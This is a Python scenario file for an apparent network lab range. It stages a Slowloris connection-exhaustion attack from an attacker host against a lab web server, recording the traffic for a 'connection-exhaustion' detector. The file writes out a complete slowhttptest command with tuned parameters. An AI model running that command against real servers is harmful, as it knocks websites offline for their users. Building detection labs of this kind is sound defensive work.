"""Slowloris by slowhttptest."""

from lab.range import Range
from lab.scenario import Scenario


def run(net: Range) -> None:
    attacker = net.outside("attacker")
    web = net.web()
    net.everyday()
    with net.attack(
        "connection-exhaustion",
        by=attacker,
        victims=[web],
        frames=f"tcp and dst host {web.ip} and dst port 80",
        responses=f"tcp and src host {web.ip} and dst host {attacker.ip}",
    ):
        net.tool(
            attacker,
            *f"slowhttptest -c 60 -H -i 8 -r 20 -l 42 -t GET -x 10 -p 3 -u http://{web.ip}/".split(),
            seconds=44,
        )
    net.quiet(2)


SCENARIO = Scenario(
    name="connection-exhaustion-slowloris",
    about="slowhttptest -H holds 60 connections to a web server with a header line every 8 seconds.",
    detectors=("connection-exhaustion",),
    tools={"slowhttptest": "slowhttptest"},
    run=run,
)
